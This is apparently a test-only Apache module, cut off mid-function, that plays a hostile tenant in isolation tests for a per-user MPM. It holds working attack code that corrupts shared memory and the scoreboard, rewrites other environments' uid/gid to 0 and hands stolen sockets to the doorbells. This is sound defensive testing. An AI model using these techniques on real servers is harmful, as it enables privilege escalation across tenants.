/*
 * mod_ph_hostile.c -- a hostile tenant, for the tests only.
 *
 * TEST CODE.  NEVER INSTALL THIS MODULE, never load it in a real server:
 * `make install` does not know it; tests/hostile/hostile.mk builds it into
 * build/out/ for tests/integration/test_hostile.py.
 *
 * What it models: code running inside one environment's processor with
 * that environment's uid -- an exploited native module, or an embedded
 * interpreter with a native extension -- that tries to reach the other
 * environments, the multiplexers and the root parent through everything
 * a processor inherits: the MPM's shared-memory segment, httpd's
 * scoreboard, descriptors, and the right to signal.
 *
 *   <Location /attack>
 *       SetHandler ph-hostile
 *   </Location>
 *   PhHostileSegmentPrefix /run/apache2/peruser_hybrid   (server config)
 *
 * GET /attack?mode=M[&scope=own|all][&fill=pattern|random][&own=NAME]
 *
 *   mode=segment   every mapping in /proc/self/maps whose path starts with
 *                  the prefix (scope=all), or only its own (scope=own, the
 *                  control): those whose name after the prefix contains
 *                  NAME; else, of one file mapped writable only in part,
 *                  the writable part; else (one file writable throughout,
 *                  a segment not restricted by writer) NAME's own records
 *                  through the layout.  For each: mprotect(READ|WRITE), open
 *                  O_RDWR, garbage over every byte it can write (a page
 *                  that faults is reported, not fatal), then the same
 *                  through pwrite(/proc/self/mem); with scope=all, also
 *                  mremap growth (a longer copy of the mapping, which
 *                  reaches whatever follows it in its file: pattern over
 *                  every page of the growth).  No knowledge of the
 *                  record layout.
 *   mode=layout    today's layout (shm/ph_shm_layout.h): other
 *                  environments' counters to extreme values, their tickets
 *                  CLAIMED by pid 1, its own child record pointing at
 *                  another environment with a large idle count, its slot
 *                  linked into the other environment's processors' index
 *                  (and that index made a loop), every slot of its own
 *                  region idle with room, and the header's geometry
 *                  rewritten.
 *   mode=aim       the header's env_offset aimed so that the parent's own
 *                  writes into another environment's record land on the
 *                  parent's copy of that environment's uid/gid.
 *   mode=whereis   no attack: where this process (a fork of the parent,
 *                  so at the same addresses) keeps each environment's
 *                  uid/gid; the test reads them in the parent as root.
 *   mode=scoreboard  parent[i].pid = 1 for every free slot, and garbage
 *                  over every worker record of the other processes.
 *   mode=fds       report the descriptors it holds (no attack).
 *   mode=handback&port=P  on every SEQPACKET socket it can write to (the
 *                  doorbells), a HAND_BACK message (doorbell.h) with, in
 *                  turn: the client end of a TCP connection it makes to
 *                  127.0.0.1:P (the server's own listener) after writing
 *                  a request for the Host given as host=H on it, one end
 *                  of a socketpair, and a UDP socket; then the same byte
 *                  with two descriptors.  Reports how many it sent, and
 *                  how many of those sockets it could read from (a
 *                  doorbell's watch end: rings and hand-backs meant for
 *                  a multiplexer; a ring end, shut for reading, reads
 *                  end-of-file).  Then, on each, HANDBACK_EMPTY messages of
 *                  no byte with a UDP socket each.
 *   mode=handself  on every SEQPACKET socket it can write to, a HAND_BACK
 *                  of this request's own connection (a real connection
 *                  the listeners accepted: what a processor that stopped
 *                  reading in the middle of what its client sent would
 *                  hand back).  Reports how many it sent.
 *   mode=signals   report which server processes kill(pid, 0) reaches.
 *
 * The answer is text/plain, one `key=value` per line; `done=1` last.
 * Nothing is written outside this process except by the attacks above.
 */

#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>
#include <netinet/in.h>

#include "httpd.h"
#include "http_config.h"
#include "http_core.h"
#include "http_protocol.h"
#include "http_request.h"
#include "ap_mpm.h"
#include "scoreboard.h"
#include "apr_strings.h"

#include "ph_shm_layout.h"      /* shm/: mode=layout and mode=aim */
#include "ph_env.h"             /* the MPM: mode=whereis and mode=aim */

module AP_MODULE_DECLARE_DATA ph_hostile_module;

#define HOSTILE_PATTERN 0xA5u
#define MAX_MAPS 64

typedef struct hostile_conf {
    const char *segment_prefix;
} hostile_conf;

/* The answer under construction. */
typedef struct report {
    request_rec *r;
    apr_array_header_t *lines;      /* const char * */
} report;

static void say(report *rep, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));

static void say(report *rep, const char *fmt, ...)
{
    va_list ap;

    va_start(ap, fmt);
    APR_ARRAY_PUSH(rep->lines, const char *) =
        apr_pvsprintf(rep->r->pool, fmt, ap);
    va_end(ap);
}

static const char *err_name(int err)
{
    return err == 0 ? "ok" : strerrorname_np(err) ? strerrorname_np(err)
                                                   : "E?";
}

/* ---- probing writes: a fault is a result, not a crash ---------------- */

/* Where on_fault returns to; set only around one probing access.  The
 * compiler must neither drop nor move those stores: the access they guard
 * looks to it like any store (hence volatile, and the barriers below). */
static __thread sigjmp_buf *volatile probe_jump;

#define COMPILER_BARRIER() __asm__ __volatile__("" ::: "memory")

static void on_fault(int sig)
{
    if (probe_jump) {
        siglongjmp(*probe_jump, 1);
    }
    /* Not ours: let the default action happen. */
    signal(sig, SIG_DFL);
    raise(sig);
}

typedef struct fault_guard {
    struct sigaction old_segv, old_bus;
} fault_guard;

static void guard_begin(fault_guard *g)
{
    struct sigaction sa;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_fault;
    sigemptyset(&sa.sa_mask);
    sa.sa_flags = SA_NODEFER;
    sigaction(SIGSEGV, &sa, &g->old_segv);
    sigaction(SIGBUS, &sa, &g->old_bus);
}

static void guard_end(fault_guard *g)
{
    sigaction(SIGSEGV, &g->old_segv, NULL);
    sigaction(SIGBUS, &g->old_bus, NULL);
}

static uint64_t rng_state;

static uint64_t rng_next(void)
{
    uint64_t x = rng_state;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return rng_state = x;
}

static void fill_buffer(unsigned char *buf, size_t len, int random)
{
    size_t i;

    for (i = 0; i < len; i++) {
        buf[i] = random ? (unsigned char)rng_next() : HOSTILE_PATTERN;
    }
}

/* Write garbage over [p, p + len); 0 if done, 1 if the page faulted. */
static int probe_write(unsigned char *p, size_t len, int random)
{
    sigjmp_buf jb;
    volatile int faulted = 0;

    if (sigsetjmp(jb, 1) == 0) {
        probe_jump = &jb;
        COMPILER_BARRIER();
        fill_buffer(p, len, random);
    }
    else {
        faulted = 1;
    }
    COMPILER_BARRIER();
    probe_jump = NULL;
    return faulted;
}

/* 1 if *p can be read. */
static int probe_read(const unsigned char *p)
{
    sigjmp_buf jb;
    volatile int ok = 0;

    if (sigsetjmp(jb, 1) == 0) {
        probe_jump = &jb;
        COMPILER_BARRIER();
        (void)*(const volatile unsigned char *)p;
        ok = 1;
    }
    COMPILER_BARRIER();
    probe_jump = NULL;
    return ok;
}

typedef struct poke_tally {
    unsigned long writes, faults;
} poke_tally;

/* Copy n bytes to addr, counting a fault instead of dying of it. */
static __attribute__((unused)) void poke_bytes(poke_tally *tally,
                                               void *addr, const void *val,
                                               size_t n)
{
    sigjmp_buf jb;

    if (sigsetjmp(jb, 1) == 0) {
        probe_jump = &jb;
        COMPILER_BARRIER();
        memcpy(addr, val, n);
        tally->writes++;
    }
    else {
        tally->faults++;
    }
    COMPILER_BARRIER();
    probe_jump = NULL;
}

/* ---- /proc/self/maps ------------------------------------------------- */

typedef struct mapping {
    uintptr_t start, end;
    unsigned long long offset;      /* in the file */
    char perms[5];
    const char *path;
} mapping;

/* Mappings whose path starts with prefix; returns how many. */
static int find_mappings(apr_pool_t *p, const char *prefix, mapping *out,
                         int max)
{
    FILE *f = fopen("/proc/self/maps", "r");
    char line[4096];
    int n = 0;

    if (!f) {
        return -errno;
    }
    while (n < max && fgets(line, sizeof(line), f)) {
        unsigned long start, end;
        unsigned long long offset;
        char perms[5];
        int pos = 0;
        char *path, *nl;

        if (sscanf(line, "%lx-%lx %4s %llx %*s %*s %n", &start, &end, perms,
                   &offset, &pos) < 4 || pos == 0) {
            continue;
        }
        path = line + pos;
        if ((nl = strchr(path, '\n'))) {
            *nl = '\0';
        }
        if (strncmp(path, prefix, strlen(prefix)) != 0) {
            continue;
        }
        out[n].start = start;
        out[n].end = end;
        out[n].offset = offset;
        memcpy(out[n].perms, perms, sizeof(perms));
        out[n].path = apr_pstrdup(p, path);
        n++;
    }
    fclose(f);
    return n;
}

/* Mapping i extended over the mappings of the same file that follow it
 * without a gap (a segment mapped in parts with different protections). */
static mapping file_extent(const mapping *maps, int n, int i)
{
    mapping out = maps[i];
    int j;

    for (j = i + 1; j < n && maps[j].start == out.end
                    && strcmp(maps[j].path, out.path) == 0; j++) {
        out.end = maps[j].end;
    }
    return out;
}

/* Mapping i extended over the mappings that follow it without a gap, of
 * any file (maps are all of the segment's files: since the segment is one
 * file per writer, reserved as one range, they sit side by side). */
static mapping segment_extent(const mapping *maps, int n, int i)
{
    mapping out = maps[i];
    int j;

    for (j = i + 1; j < n && maps[j].start == out.end; j++) {
        out.end = maps[j].end;
    }
    return out;
}

/* The file behind a mapping's path (" (deleted)" removed). */
static const char *mapping_file(apr_pool_t *p, const char *path)
{
    const char *del = strstr(path, " (deleted)");
    return del ? apr_pstrndup(p, path, (apr_size_t)(del - path)) : path;
}

/* ---- mode=segment: no layout knowledge ------------------------------- */

static void scribble_mapping(report *rep, int i, const mapping *m,
                             int random)
{
    apr_pool_t *p = rep->r->pool;
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    size_t len = m->end - m->start, off;
    unsigned long written = 0, faulted = 0, mem_ok = 0, mem_fail = 0;
    int mem_err = 0, fd, rc;
    unsigned char *buf;
    const char *file = mapping_file(p, m->path);

    say(rep, "map.%d=%lx-%lx %s %s", i, (unsigned long)m->start,
        (unsigned long)m->end, m->perms, m->path);

    rc = mprotect((void *)m->start, len, PROT_READ | PROT_WRITE);
    say(rep, "map.%d.mprotect_rw=%s", i, err_name(rc == 0 ? 0 : errno));

    fd = open(file, O_RDWR | O_CLOEXEC);
    say(rep, "map.%d.open_rdwr=%s", i, err_name(fd >= 0 ? 0 : errno));
    if (fd >= 0) {
        close(fd);
    }

    for (off = 0; off < len; off += page) {
        if (probe_write((unsigned char *)m->start + off, page, random)) {
            faulted++;
        }
        else {
            written++;
        }
    }
    say(rep, "map.%d.pages_written=%lu", i, written);
    say(rep, "map.%d.pages_faulted=%lu", i, faulted);

    fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    if (fd < 0) {
        say(rep, "map.%d.procmem_open=%s", i, err_name(errno));
        return;
    }
    say(rep, "map.%d.procmem_open=ok", i);
    buf = apr_palloc(p, page);
    for (off = 0; off < len; off += page) {
        fill_buffer(buf, page, random);
        if (pwrite(fd, buf, page, (off_t)(m->start + off)) == (ssize_t)page) {
            mem_ok++;
        }
        else {
            mem_fail++;
            if (!mem_err) {
                mem_err = errno ? errno : EIO;
            }
        }
    }
    close(fd);
    say(rep, "map.%d.procmem_pages_written=%lu", i, mem_ok);
    say(rep, "map.%d.procmem_pages_failed=%lu", i, mem_fail);
    say(rep, "map.%d.procmem_error=%s", i, err_name(mem_err));
}

/*
 * mremap growth: a new mapping of the same file, from the same offset,
 * longer (old_size 0 makes a copy and leaves the original in place), with
 * the original's rights.  If the mapping is writable and its file goes on
 * after it, the copy is a writable window on the bytes that follow --
 * whoever writes them.  Grown by what follows in the file (or, if that is
 * nothing or unknown, by a fixed 64 pages), pattern written over every
 * page of the growth; a page past the end of the file faults (SIGBUS).
 */
static void grow_mapping(report *rep, int i, const mapping *m, int random)
{
    apr_pool_t *p = rep->r->pool;
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    size_t len = m->end - m->start, grow = 64 * page, off;
    unsigned long written = 0, faulted = 0;
    unsigned long long end = m->offset + len;
    struct stat st;
    char *n;

    if (stat(mapping_file(p, m->path), &st) == 0
        && (unsigned long long)st.st_size > end) {
        grow = (size_t)((unsigned long long)st.st_size - end);
        grow = (grow + page - 1) & ~(page - 1);
    }
    say(rep, "map.%d.mremap_grow=%lu", i, (unsigned long)grow);
    n = mremap((void *)m->start, 0, len + grow, MREMAP_MAYMOVE);
    say(rep, "map.%d.mremap=%s", i, err_name(n != MAP_FAILED ? 0 : errno));
    if (n == MAP_FAILED) {
        return;
    }
    for (off = len; off < len + grow; off += page) {
        if (probe_write((unsigned char *)n + off, page, random)) {
            faulted++;
        }
        else {
            written++;
        }
    }
    munmap(n, len + grow);
    say(rep, "map.%d.mremap_pages_written=%lu", i, written);
    say(rep, "map.%d.mremap_pages_faulted=%lu", i, faulted);
}

static void attack_layout(report *rep, const mapping *m, const char *own,
                          const char *variant);

static void attack_segment(report *rep, const char *prefix,
                           const char *scope, const char *own, int random)
{
    mapping maps[MAX_MAPS];
    int n, i, hit = 0;

    n = find_mappings(rep->r->pool, prefix, maps, MAX_MAPS);
    say(rep, "mappings=%d", n);
    for (i = 0; i < n; i++) {
        const char *name = maps[i].path + strlen(prefix);
        if (strcmp(scope, "own") == 0 && !(own && strstr(name, own))) {
            say(rep, "map.%d=%lx-%lx %s %s skipped=not-own", i,
                (unsigned long)maps[i].start, (unsigned long)maps[i].end,
                maps[i].perms, maps[i].path);
            continue;
        }
        scribble_mapping(rep, i, &maps[i], random);
        if (strcmp(scope, "all") == 0) {
            grow_mapping(rep, i, &maps[i], random);
        }
        hit++;
    }
    if (strcmp(scope, "own") == 0 && hit == 0 && n > 0) {
        int writable = 0;
        for (i = 0; i < n; i++) {
            writable += maps[i].perms[1] == 'w';
        }
        if (writable > 0 && writable < n) {
            /* One file, mapped writable only in part: that part is what
             * the server gave this process to write, its own. */
            say(rep, "own_by=writable mappings");
            for (i = 0; i < n; i++) {
                if (maps[i].perms[1] == 'w') {
                    scribble_mapping(rep, i, &maps[i], random);
                    hit++;
                }
            }
        }
        else {
            /* One file writable by all: its own records, by the layout. */
            mapping whole = file_extent(maps, n, 0);
            say(rep, "own_by=layout");
            attack_layout(rep, &whole, own, "own");
        }
    }
    say(rep, "mappings_attacked=%d", hit);
}

/* ---- the MPM's environment table, as inherited from the parent ------- */

static __attribute__((unused)) ph_env *env_named(const char *name)
{
    apr_array_header_t **envs = dlsym(RTLD_DEFAULT, "ph_envs");
    int i;

    if (!envs || !*envs) {
        return NULL;
    }
    for (i = 0; i < (*envs)->nelts; i++) {
        ph_env *e = APR_ARRAY_IDX(*envs, i, ph_env *);
        if (e && e->magic == PH_ENV_MAGIC && strcmp(e->name, name) == 0) {
            return e;
        }
    }
    return NULL;
}

static void report_whereis(report *rep)
{
    apr_array_header_t **envs = dlsym(RTLD_DEFAULT, "ph_envs");
    int i;

    if (!envs || !*envs) {
        say(rep, "error=no ph_envs symbol");
        return;
    }
    for (i = 0; i < (*envs)->nelts; i++) {
        ph_env *e = APR_ARRAY_IDX(*envs, i, ph_env *);
        if (!e || e->magic != PH_ENV_MAGIC) {
            continue;
        }
        say(rep, "env.%s.uid_addr=0x%lx", e->name, (unsigned long)&e->uid);
        say(rep, "env.%s.gid_addr=0x%lx", e->name, (unsigned long)&e->gid);
        say(rep, "env.%s.uid=%lu", e->name, (unsigned long)e->uid);
        say(rep, "env.%s.gid=%lu", e->name, (unsigned long)e->gid);
    }
}

/*
 * ---- mode=layout, mode=aim and the own control: today's layout --------
 *
 * Everything that knows ph_shm_layout.h is in this function, so that a
 * layout change means adapting one place.  (The layout 1.x version, one
 * file every child mapped writable, is in the history of this file: it
 * showed each attack working before issue 8.)
 * variant:
 *   "own"     its own environment's counters and its own child record
 *   "layout"  others' counters and tickets, own child record, geometry
 *   "aim"     env_offset aimed at the parent's copy of another
 *             environment's gid (processors lands there) and uid (demand)
 */
#if PH_SHM_LAYOUT_MAJOR == 5
/* Layout 5.x (records as in 2.x and 3.x): MAIN (header, env identities,
 * child records; the parent writes), MUX, then one page-aligned region
 * per environment (its HEAD: counters and partitions, on pages of their
 * own; then its children's figures and its tickets); one file per writer
 * since 3.0, mapped side by side.  AVAIL is stored as 100 - AVAIL. */
#define ALIGN64(v) (((v) + 63u) & ~(uint64_t)63u)

static void attack_layout(report *rep, const mapping *m, const char *own,
                          const char *variant)
{
    unsigned char *base = (unsigned char *)m->start;
    size_t maplen = m->end - m->start;
    ph_shm_header *h = (ph_shm_header *)base;
    ph_shm_header g;            /* private copy of the geometry */
    uint64_t r_children, r_partitions, r_tickets;
    uint32_t e, c, mux, t;
    int own_env = -1, other_env = -1, own_slot = -1;
    poke_tally tally = { 0, 0 };

#define POKE(lvalue, value)                                             \
    do {                                                                \
        __typeof__(lvalue) v_ = (value);                                \
        poke_bytes(&tally, (void *)&(lvalue), (const void *)&v_,        \
                   sizeof(v_));                                         \
    } while (0)
#define ENV(e) ((ph_shm_env *)(base + g.env_offset) + (e))
#define CHILD(c) ((ph_shm_child *)(base + g.child_offset) + (c))
#define REGION(e) (base + g.region_offset + (uint64_t)(e) * g.region_stride)
#define STATS(e) ((ph_shm_env_stats *)REGION(e))
#define CSTATS(e, c) ((ph_shm_child_stats *)(REGION(e) + r_children) + (c))
#define PART(e, m) ((ph_shm_partition *)(REGION(e) + r_partitions) + (m))
#define TICKETS(e, m) ((ph_shm_ticket *)(REGION(e) + r_tickets) \
                       + (uint64_t)(m) * g.tickets_per_partition)

    if (maplen < sizeof(*h) || !probe_read(base)) {
        say(rep, "layout.error=segment not readable");
        return;
    }
    g = *h;
    r_partitions = ALIGN64(sizeof(ph_shm_env_stats));
    r_children = (r_partitions
                  + (uint64_t)g.mux_capacity * sizeof(ph_shm_partition)
                  + g.page_size - 1) & ~((uint64_t)g.page_size - 1);
    r_tickets = ALIGN64(r_children
                        + (uint64_t)g.child_capacity * sizeof(ph_shm_child_stats));
    if (g.magic != PH_SHM_MAGIC || g.layout_major != 5
        || g.page_size == 0 || (g.page_size & (g.page_size - 1)) != 0
        || g.env_record_size != sizeof(ph_shm_env)
        || g.env_stats_size != sizeof(ph_shm_env_stats)
        || g.child_record_size != sizeof(ph_shm_child)
        || g.child_stats_size != sizeof(ph_shm_child_stats)
        || g.ticket_size != sizeof(ph_shm_ticket)
        || g.total_size > maplen
        || g.env_offset + (uint64_t)g.env_capacity * sizeof(ph_shm_env) > maplen
        || g.child_offset + (uint64_t)g.child_capacity * sizeof(ph_shm_child) > maplen
        || r_tickets + (uint64_t)g.mux_capacity * g.tickets_per_partition
               * sizeof(ph_shm_ticket) > g.region_stride
        || g.region_offset + (uint64_t)g.env_capacity * g.region_stride > maplen) {
        say(rep, "layout.error=not a layout 5.x segment this module knows "
            "(magic 0x%x, layout %u)", g.magic, (unsigned)g.layout_major);
        return;
    }
    for (e = 0; e < g.env_capacity; e++) {
        if (!ENV(e)->in_use) {
            continue;
        }
        if (own && strncmp(ENV(e)->name, own, PH_SHM_NAME_MAX) == 0) {
            own_env = (int)e;
        }
        else if (other_env < 0) {
            other_env = (int)e;
        }
    }
    for (c = 0; c < g.child_capacity; c++) {
        if (CHILD(c)->pid == (int32_t)getpid()) {
            own_slot = (int)c;
        }
    }
    say(rep, "layout.own_env=%d", own_env);
    say(rep, "layout.other_env=%d", other_env);
    say(rep, "layout.own_child=%d", own_slot);

    if (strcmp(variant, "own") == 0) {
        if (own_env >= 0) {
            POKE(STATS(own_env)->in_flight, INT32_MAX);
            POKE(STATS(own_env)->unavail, 100);
            POKE(STATS(own_env)->idle_workers, INT32_MIN);
            POKE(STATS(own_env)->queue_depth, INT32_MAX);
            if (own_slot >= 0) {
                POKE(CSTATS(own_env, own_slot)->idle_threads, 1 << 20);
                POKE(CSTATS(own_env, own_slot)->busy_threads, -7);
                POKE(CSTATS(own_env, own_slot)->room, INT32_MIN);
            }
        }
    }
    else if (strcmp(variant, "layout") == 0) {
        for (e = 0; e < g.env_capacity; e++) {
            if ((int)e == own_env || !ENV(e)->in_use) {
                continue;
            }
            POKE(STATS(e)->in_flight, INT32_MAX);
            POKE(STATS(e)->unavail, 100);
            POKE(STATS(e)->queue_depth, INT32_MAX);
            POKE(STATS(e)->idle_workers, INT32_MIN);
            POKE(STATS(e)->demand, UINT32_MAX);
            POKE(ENV(e)->uid, 0);
            POKE(ENV(e)->gid, 0);
            if (own_slot >= 0) {
                /* its own figures, in the other's region */
                POKE(CSTATS(e, own_slot)->idle_threads, 16);
            }
            for (mux = 0; mux < g.mux_capacity; mux++) {
                POKE(PART(e, mux)->oldest_wait_since_ms, 1);
                for (t = 0; t < g.tickets_per_partition; t++) {
                    uint64_t w = atomic_load(&TICKETS(e, mux)[t].word);
                    POKE(TICKETS(e, mux)[t].claim_pid, 1);
                    POKE(TICKETS(e, mux)[t].word,
                         PH_TICKET_WORD(PH_TICKET_GEN(w), PH_TICKET_CLAIMED));
                }
            }
        }
        /* The processors' index (MAIN, layout 5.1): itself linked first
         * into the other environment's chain, its own link a loop, its
         * environment's chain "being written" for ever; and in its own
         * region, every slot's figures -- the other environment's
         * processors' slots too -- saying idle with room. */
        if (own_slot >= 0 && other_env >= 0) {
            POKE(ENV(other_env)->first_proc, (uint32_t)own_slot + 1u);
            POKE(CHILD(own_slot)->next_proc, (uint32_t)own_slot + 1u);
        }
        if (own_env >= 0) {
            POKE(ENV(own_env)->procs_seq, 1u);
            for (c = 0; c < g.child_capacity; c++) {
                POKE(CSTATS(own_env, c)->idle_threads, 16);
                POKE(CSTATS(own_env, c)->room, 16);
                POKE(CSTATS(own_env, c)->status, PH_CHILD_READY);
            }
        }
        if (own_slot >= 0) {
            POKE(CHILD(own_slot)->env_index, other_env);
            if (own_env >= 0) {
                POKE(CSTATS(own_env, own_slot)->idle_threads, 16);
                POKE(CSTATS(own_env, own_slot)->busy_threads, INT32_MIN);
            }
        }
        POKE(h->env_capacity, 0x7fffffffu);
        POKE(h->child_capacity, 0x7fffffffu);
        POKE(h->mux_capacity, 0x7fffffffu);
        POKE(h->tickets_per_partition, 0x7fffffffu);
        POKE(h->env_offset, 0x4141414141414141ull);
        POKE(h->child_offset, 0x4242424242424242ull);
        POKE(h->region_offset, 0x4343434343434343ull);
        POKE(h->region_stride, 0x4444444444444444ull);
        POKE(h->total_size, ~0ull);
    }
    else if (strcmp(variant, "aim") == 0) {
        ph_env *victim = other_env >= 0
            ? env_named(apr_pstrndup(rep->r->pool, ENV(other_env)->name,
                                     PH_SHM_NAME_MAX))
            : NULL;
        if (!victim) {
            /* ProcessorImage exec: the environment's file holds no other
             * environment's <Processor> block (issue 13), so nothing of
             * another's identity is in this process to aim at. */
            say(rep, "aim.skipped=no other environment in the MPM's table");
        }
        else {
            uint64_t off = (uint64_t)((uintptr_t)&victim->gid
                                      - (uintptr_t)base)
                - (uint64_t)other_env * sizeof(ph_shm_env)
                - offsetof(ph_shm_env, processors);
            say(rep, "aim.victim=%s", victim->name);
            say(rep, "aim.gid_addr=0x%lx", (unsigned long)&victim->gid);
            say(rep, "aim.env_offset=0x%" APR_UINT64_T_HEX_FMT, off);
            POKE(h->env_offset, off);
        }
    }
#undef POKE
#undef ENV
#undef CHILD
#undef REGION
#undef STATS
#undef CSTATS
#undef PART
#undef TICKETS
    say(rep, "layout.writes=%lu", tally.writes);
    say(rep, "layout.faults=%lu", tally.faults);
}
#else
static void attack_layout(report *rep, const mapping *m, const char *own,
                          const char *variant)
{
    (void)m;
    (void)own;
    (void)variant;
    /* The tests fail on this line: adapt this function to the layout. */
    say(rep, "layout.error=attack_layout() knows layout 5.x, the "
        "segment is %u.x: adapt it", PH_SHM_LAYOUT_MAJOR);
}
#endif /* PH_SHM_LAYOUT_MAJOR */

static void attack_layout_mode(report *rep, const char *prefix,
                               const char *own, const char *variant)
{
    mapping maps[MAX_MAPS];
    int n = find_mappings(rep->r->pool, prefix, maps, MAX_MAPS), i;

    say(rep, "mappings=%d", n);
    for (i = 0; i < n; i++) {
        if (maps[i].end - maps[i].start >= sizeof(ph_shm_header)
            && probe_read((unsigned char *)maps[i].start)
            && ((ph_shm_header *)maps[i].start)->magic == PH_SHM_MAGIC) {
            mapping whole = segment_extent(maps, n, i);
            /* A processor maps other environments' regions not at all
             * (holes of PROT_NONE address space between the files): aim
             * at the whole segment the header describes all the same;
             * what is not mapped faults and is counted. */
            uint64_t total = ((ph_shm_header *)maps[i].start)->total_size;
            if (total <= (uint64_t)SIZE_MAX - maps[i].start
                && maps[i].start + total > whole.end) {
                whole.end = maps[i].start + (size_t)total;
            }
            say(rep, "layout.map=%s", maps[i].path);
            attack_layout(rep, &whole, own, variant);
            return;
        }
    }
    say(rep, "layout.error=no mapping with the segment's magic");
}

/* ---- httpd's scoreboard ---------------------------------------------- */

static void attack_scoreboard(report *rep)
{
    int daemons = 0, threads = 0, i, j;
    unsigned long pids = 0, workers = 0;
    pid_t me = getpid();

    ap_mpm_query(AP_MPMQ_HARD_LIMIT_DAEMONS, &daemons);
    ap_mpm_query(AP_MPMQ_HARD_LIMIT_THREADS, &threads);
    say(rep, "scoreboard.daemons=%d", daemons);
    say(rep, "scoreboard.threads=%d", threads);
    if (!ap_scoreboard_image) {
        say(rep, "scoreboard.error=no scoreboard");
        return;
    }
    for (i = 0; i < daemons; i++) {
        process_score *ps = ap_get_scoreboard_process(i);
        int mine = ps->pid == me;
        if (ps->pid == 0) {
            ps->pid = 1;
            pids++;
        }
        if (mine) {
            continue;           /* keep its own worker records: answer */
        }
        for (j = 0; j < threads; j++) {
            worker_score *ws = ap_get_scoreboard_worker_from_indexes(i, j);
            ws->status = (unsigned char)(rng_next() | 0x80);
            ws->pid = (pid_t)rng_next();
            ws->tid = (apr_os_thread_t)rng_next();
            ws->access_count = rng_next();
            fill_buffer((unsigned char *)ws->request, sizeof(ws->request) - 1, 1);
            ws->request[sizeof(ws->request) - 1] = '\0';
            fill_buffer((unsigned char *)ws->client, sizeof(ws->client) - 1, 1);
            ws->client[sizeof(ws->client) - 1] = '\0';
            fill_buffer((unsigned char *)ws->vhost, sizeof(ws->vhost) - 1, 1);
            ws->vhost[sizeof(ws->vhost) - 1] = '\0';
            workers++;
        }
    }
    say(rep, "scoreboard.free_slots_set_pid1=%lu", pids);
    say(rep, "scoreboard.workers_scribbled=%lu", workers);
}

/* ---- handing back its own connection ---------------------------------- */

static int send_with_fds(int fd, char byte, size_t len, const int *fds,
                         int n);

static void attack_handself(report *rep)
{
    apr_socket_t *csd = ap_get_conn_socket(rep->r->connection);
    DIR *d = opendir("/proc/self/fd");
    struct dirent *de;
    int own = -1, sent = 0;

    if (csd) {
        apr_os_sock_get(&own, csd);
    }
    if (!d || own < 0) {
        say(rep, "handself.error=%s", d ? "no connection" : err_name(errno));
        if (d) {
            closedir(d);
        }
        return;
    }
    while ((de = readdir(d))) {
        int fd = atoi(de->d_name), type = 0;
        socklen_t len = sizeof(type);

        if (de->d_name[0] == '.' || fd == dirfd(d)
            || getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) != 0
            || type != SOCK_SEQPACKET) {
            continue;
        }
        sent += send_with_fds(fd, 'H', 1, &own, 1);
    }
    closedir(d);
    say(rep, "handself.sent=%d", sent);
}

/* ---- descriptors ----------------------------------------------------- */

static void report_fds(report *rep)
{
    DIR *d = opendir("/proc/self/fd");
    apr_socket_t *csd = ap_get_conn_socket(rep->r->connection);
    int client_fd = -1;
    struct dirent *de;

    if (csd) {
        apr_os_sock_get(&client_fd, csd);
    }
    if (!d) {
        say(rep, "fds.error=%s", err_name(errno));
        return;
    }
    while ((de = readdir(d))) {
        char link[512], target[512] = "?";
        const char *kind = "other";
        struct stat st;
        int fd, type = 0, listening = 0;
        socklen_t len;
        ssize_t n;

        if (de->d_name[0] == '.') {
            continue;
        }
        fd = atoi(de->d_name);
        if (fd == dirfd(d)) {
            continue;
        }
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        if ((n = readlink(link, target, sizeof(target) - 1)) >= 0) {
            target[n] = '\0';
        }
        if (fstat(fd, &st) == 0 && S_ISSOCK(st.st_mode)) {
            struct sockaddr_storage ss;
            len = sizeof(type);
            getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len);
            len = sizeof(listening);
            getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &len);
            len = sizeof(ss);
            memset(&ss, 0, sizeof(ss));
            getsockname(fd, (struct sockaddr *)&ss, &len);
            kind = fd == client_fd ? "client"
                 : listening ? "listener"
                 : ss.ss_family == AF_UNIX && type == SOCK_SEQPACKET
                   ? "seqpacket" : ss.ss_family == AF_UNIX ? "unix" : "socket";
        }
        else if (fstat(fd, &st) == 0 && S_ISREG(st.st_mode)) {
            kind = "file";
        }
        else if (fstat(fd, &st) == 0 && S_ISFIFO(st.st_mode)) {
            kind = "pipe";
        }
        say(rep, "fd.%d=%s %s flags=%s", fd, kind, target,
            (fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDONLY ? "r"
            : (fcntl(fd, F_GETFL) & O_ACCMODE) == O_WRONLY ? "w" : "rw");
    }
    closedir(d);
}

/* ---- signals --------------------------------------------------------- */

static size_t read_small(const char *path, char *buf, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t n;

    if (fd < 0) {
        return 0;
    }
    n = read(fd, buf, size);
    close(fd);
    return n > 0 ? (size_t)n : 0;
}

static void report_signals(report *rep)
{
    char mine[4096], theirs[4096], path[64];
    size_t mlen = read_small("/proc/self/cmdline", mine, sizeof(mine));
    DIR *d = opendir("/proc");
    struct dirent *de;

    say(rep, "sig.self=%ld", (long)getpid());
    say(rep, "sig.ppid=%ld", (long)getppid());
    if (!d || mlen == 0) {
        say(rep, "sig.error=cannot read /proc");
        if (d) {
            closedir(d);
        }
        return;
    }
    while ((de = readdir(d))) {
        pid_t pid = (pid_t)atol(de->d_name);
        size_t tlen;

        if (pid <= 0 || pid == getpid()) {
            continue;
        }
        snprintf(path, sizeof(path), "/proc/%ld/cmdline", (long)pid);
        tlen = read_small(path, theirs, sizeof(theirs));
        if (pid != getppid() && (tlen != mlen || memcmp(mine, theirs, mlen))) {
            continue;
        }
        say(rep, "sig.%ld=%s", (long)pid,
